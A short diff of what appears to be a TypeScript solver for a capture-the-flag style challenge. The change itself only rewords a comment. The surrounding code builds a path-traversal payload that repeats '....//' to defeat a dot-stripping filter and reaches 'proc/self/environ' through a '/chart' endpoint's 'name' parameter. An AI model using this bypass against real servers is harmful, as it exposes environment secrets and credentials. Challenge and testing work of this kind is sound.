@@ -4,7 +4,7 @@ import type { SolveService } from '../types.ts';
 const LEVELS = 16;
 
 export const solve: SolveService = async ({ host, port }) => {
-  // Of each `....//` the office removes the two dots and the slash in the middle.
+  // The office removes the two dots and the slash in the middle of each `....//`.
   const name = `${'....//'.repeat(LEVELS)}proc/self/environ`;
   const url = new URL(`http://${host}:${port}/chart`);
   url.searchParams.set('name', name);
